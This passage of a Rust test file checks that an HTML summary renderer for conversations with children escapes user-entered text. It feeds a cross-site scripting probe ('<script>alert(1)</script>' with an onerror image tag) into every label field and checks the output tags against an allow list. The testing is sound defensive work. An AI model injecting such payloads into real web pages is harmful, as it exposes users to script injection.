+                !lower.contains("<!--") && !lower.contains("<![cdata["),
+                "{payload:?}"
+            );
+            assert_tags_are_only_ours(&html);
+            // Escaped text adds no markup: the document has the same tags, in the same
+            // order, as one made with harmless text.
+            assert_eq!(tags(&html), tags(&harmless), "{payload:?}");
+            for character in ['<', '>', '"', '\''] {
+                assert_eq!(
+                    html.matches(character).count(),
+                    harmless.matches(character).count(),
+                    "{payload:?} {character:?}"
+                );
+            }
+
+            let escaped = reference_escape(payload);
+            let trimmed = reference_escape(payload.trim());
+            let expected = [
+                // The child's name, place, present and worker in the header.
+                format!("<dd dir=\"auto\">{escaped}</dd>"),
+                format!("<h2 dir=\"auto\">{escaped}</h2>"),
+                format!("<blockquote class=\"child-words\" dir=\"auto\">{escaped}</blockquote>"),
+                format!("<div class=\"notes\" dir=\"auto\">{escaped}</div>"),
+                format!("<title>Summary of a conversation with {escaped}</title>"),
+                format!("<p class=\"audience\" dir=\"auto\">Summary for: {escaped}</p>"),
+            ];
+            for expected in &expected {
+                assert!(html.contains(expected), "{payload:?} as {expected}");
+            }
+            assert_eq!(
+                html.matches(&format!("<dd dir=\"auto\">{escaped}</dd>"))
+                    .count(),
+                4,
+                "{payload:?}: name, place, present, worker"
+            );
+            let child_words = html
+                .matches(&format!(
+                    "<blockquote class=\"child-words\" dir=\"auto\">{escaped}</blockquote>"
+                ))
+                .count();
+            assert_eq!(child_words, if for_named { 6 } else { 7 }, "{payload:?}");
+            if !for_named {
+                // The name the child gave, as a label: trimmed at the ends, then escaped.
+                assert!(
+                    html.contains(&format!("<bdi>{trimmed}</bdi>")),
+                    "{payload:?}"
+                );
+            }
+        }
+    }
+}
+
+#[test]
+fn entities_typed_by_the_child_are_shown_as_typed_not_decoded() {
+    let mut session = mia();
+    session.add_words(
+        Question::Worries,
+        words("&lt;script&gt; &amp; &#39;", Voice::ChildWrote),
+        2_000,
+    );
+    let html = render_summary_html(&Summary::of(&session, None), &english(), &with_png);
+    assert!(html.contains(">&amp;lt;script&amp;gt; &amp;amp; &amp;#39;</blockquote>"));
+}
+
+#[test]
+fn hostile_labels_and_language_stay_text_too() {
+    let hostile = "\"><script>alert(1)</script><img src=x onerror=alert(1)>";
+    let mut labels = english();
+    for field in [
+        &mut labels.lang,
+        &mut labels.title,
+        &mut labels.audience_line,
+        &mut labels.child_label,
+        &mut labels.worries_house,
+        &mut labels.child_wrote,
+        &mut labels.child_drew,
+        &mut labels.drawing_alt,
+        &mut labels.picture_missing,
+        &mut labels.decision_shared_with,
+        &mut labels.decision_none,
+        &mut labels.list_separator,
+        &mut labels.mum,
+        &mut labels.undecided_line,
+        &mut labels.worker_notes_heading,
+        &mut labels.no_worker_notes,
+        &mut labels.three_houses,
+    ] {
+        *field = hostile.into();
+    }
+    let session = decided();
+    for pictures in [
+        &with_png as &dyn Fn(Question, EntryId) -> Option<String>,
+        &|_, _| None,
+    ] {
+        let html = render_summary_html(&Summary::of(&session, None), &labels, pictures);
+        assert!(!html.to_lowercase().contains("<script"));
+        assert_tags_are_only_ours(&html);
+        assert!(html.starts_with(&format!(
+            "<!DOCTYPE html>\n<html lang=\"{}\">",
+            reference_escape(hostile)
+        )));
+    }
+}
+
+// ---------------------------------------------------------------------------------------------
+// Helpers that read the HTML without a parser. Every `<` in the output starts a tag, since
+// text never holds a raw `<`; so the tags can be read by scanning from `<` to `>`.
+
+/// The tags of a document in order, the whole text from `<` to `>`.
+fn tags(html: &str) -> Vec<&str> {
+    let mut found = Vec::new();
+    let mut rest = html;
+    while let Some(start) = rest.find('<') {
+        let end = rest[start..].find('>').expect("every tag is closed") + start;
+        found.push(&rest[start..=end]);
+        rest = &rest[end + 1..];
+    }
+    found
+}
+
+/// The document's text without tags and without its style sheet.
+fn visible_text(html: &str) -> String {
+    let (before, after) = html.split_once("<style>").unwrap();
+    let (_, after) = after.split_once("</style>").unwrap();
+    let mut text = String::new();
+    let without_style = format!("{before}{after}");
+    let mut rest = without_style.as_str();
+    while let Some(start) = rest.find('<') {
+        text.push_str(&rest[..start]);
+        let end = rest[start..].find('>').unwrap() + start;
+        rest = &rest[end + 1..];
+    }
+    text.push_str(rest);
+    text
+}
+
+/// Every tag is one the renderer writes, with only its own attributes: no event handlers,
+/// no URLs but checked PNG data.
+fn assert_tags_are_only_ours(html: &str) {
+    const ELEMENTS: &[&str] = &[
+        "html",
+        "head",
+        "meta",
+        "title",
+        "style",
+        "body",
+        "header",
+        "main",
+        "section",
+        "h1",
+        "h2",
+        "p",
+        "dl",
+        "dt",
+        "dd",
+        "ol",
+        "li",
+        "blockquote",
+        "figure",
+        "figcaption",
+        "img",
+        "bdi",
+        "div",
+    ];
+    const ATTRIBUTES: &[&str] = &[
+        "lang",
+        "charset",
+        "http-equiv",
+        "content",
+        "name",
+        "class",
+        "dir",
+        "src",
+        "alt",
+    ];
+    for tag in tags(html) {
+        if tag == "<!DOCTYPE html>" {
+            continue;
+        }
+        let inner = tag.trim_start_matches('<').trim_end_matches('>');
+        let inner = inner.strip_prefix('/').unwrap_or(inner);
+        let (name, mut attributes) = inner.split_once(' ').unwrap_or((inner, ""));
+        assert!(ELEMENTS.contains(&name), "unexpected element in {tag}");
+        // Attributes are name="value" pairs; values never hold a quote, since text is escaped.
+        while !attributes.is_empty() {
+            let (attribute, value_and_rest) = attributes
+                .split_once("=\"")
+                .unwrap_or_else(|| panic!("attribute without a quoted value in {tag}"));
+            assert!(
+                ATTRIBUTES.contains(&attribute.trim()),
+                "unexpected attribute {attribute} in {tag}"
+            );
+            let (value, rest) = value_and_rest
+                .split_once('"')
+                .unwrap_or_else(|| panic!("unclosed value in {tag}"));
+            if attribute.trim() == "src" {
+                assert!(is_png_data_url(value), "{tag}");
+            }
+            attributes = rest;
+        }
+    }
+}
+
+/// Each needle appears after the one before it.
+fn assert_in_order(html: &str, needles: &[&str]) {
+    let mut from = 0;
+    for needle in needles {
+        let at = html[from..]
+            .find(needle)
+            .unwrap_or_else(|| panic!("{needle} not found after byte {from}"));
+        from += at + needle.len();
+    }
+}
